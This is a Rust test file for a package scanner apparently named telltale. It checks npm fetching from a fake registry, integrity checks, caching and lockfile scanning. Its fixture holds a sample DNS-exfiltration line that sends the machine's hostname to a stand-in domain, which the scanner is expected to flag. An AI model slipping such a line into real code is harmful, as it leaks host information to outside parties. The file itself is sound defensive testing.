//! `npm:` targets through a registry served on loopback (hermetic).

use std::process::Command;
use telltale_registry::testing::{sri, FakeRegistry};

/// An npm tarball holding `package/package.json` and `package/index.js`.
fn tarball(index_js: &str) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (path, body) in [("package/package.json", r#"{"name":"demo","version":"1.0.0"}"#), ("package/index.js", index_js)] {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, path, body.as_bytes()).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn scan(reg: &FakeRegistry, cache: &std::path::Path, args: &[&str]) -> (Option<i32>, serde_json::Value) {
    let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
        .args(["scan", "--format", "json", "--platform", "none", "--registry", &reg.url])
        .args(args)
        .env("TELLTALE_CACHE_DIR", cache)
        .output()
        .unwrap();
    (out.status.code(), serde_json::from_slice(&out.stdout).unwrap())
}

#[test]
fn npm_target_is_fetched_verified_scanned_and_cached() {
    let bad = tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
    let reg = FakeRegistry::new(&[("demo", "1.0.0", &bad, serde_json::json!({}))], &sri);
    let cache = tempfile::tempdir().unwrap();
    let (code, doc) = scan(&reg, cache.path(), &["npm:demo@^1"]);
    assert_eq!(code, Some(1), "{doc}");
    let t = &doc["targets"][0];
    assert_eq!(t["target"], "npm:demo@1.0.0");
    assert!(t["source"].as_str().unwrap().contains("sha512-"), "{t}");
    assert!(t["findings"].as_array().unwrap().iter().any(|f| f["category"] == "exfiltration" && f["file"] == "package/index.js"), "{t}");
    // Offline, from the cache.
    let (code, doc) = scan(&reg, cache.path(), &["--offline", "npm:demo@1.0.0"]);
    assert_eq!(code, Some(1), "{doc}");
    assert!(doc["targets"][0]["source"].as_str().unwrap().contains("from the cache"));
}

#[test]
fn npm_target_with_wrong_integrity_is_an_error() {
    let reg = FakeRegistry::new(&[("demo", "1.0.0", &tarball("module.exports = 1;"), serde_json::json!({}))], &|_| sri(b"something else"));
    let cache = tempfile::tempdir().unwrap();
    let (code, doc) = scan(&reg, cache.path(), &["npm:demo"]);
    assert_eq!(code, Some(2));
    assert!(doc["targets"][0]["error"].as_str().unwrap().contains("integrity check failed"), "{doc}");
}

#[test]
fn lockfile_packages_are_fetched_and_scanned_each() {
    let bad = tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
    let good = tarball("module.exports = (a, b) => a + b;");
    let reg = FakeRegistry::new(&[("bad", "1.0.0", &bad, serde_json::json!({})), ("good", "2.0.0", &good, serde_json::json!({}))], &sri);
    let dir = tempfile::tempdir().unwrap();
    let lock = serde_json::json!({ "lockfileVersion": 3, "packages": {
        "": { "name": "app" },
        "node_modules/bad": { "version": "1.0.0", "resolved": format!("{}bad/-/1.0.0.tgz", reg.url), "integrity": sri(&bad) },
        "node_modules/good": { "version": "2.0.0", "resolved": format!("{}good/-/2.0.0.tgz", reg.url), "integrity": sri(b"not what the registry has") },
        "node_modules/local": { "resolved": "packages/local", "link": true }
    }});
    let path = dir.path().join("package-lock.json");
    std::fs::write(&path, serde_json::to_vec(&lock).unwrap()).unwrap();
    let (code, doc) = scan(&reg, dir.path(), &[path.to_str().unwrap()]);
    assert_eq!(code, Some(1), "{doc}");
    let targets = doc["targets"].as_array().unwrap();
    assert!(targets[0]["source"].as_str().unwrap().contains("2 registry packages"), "{}", targets[0]);
    assert!(targets[0]["warnings"][0].as_str().unwrap().contains("skipped local"), "{}", targets[0]);
    let by_name = |n: &str| targets.iter().find(|t| t["target"] == n).unwrap_or_else(|| panic!("{n} in {doc}"));
    assert!(!by_name("npm:bad@1.0.0")["findings"].as_array().unwrap().is_empty());
    assert!(by_name("npm:good@2.0.0")["error"].as_str().unwrap().contains("lockfile's integrity"));
}
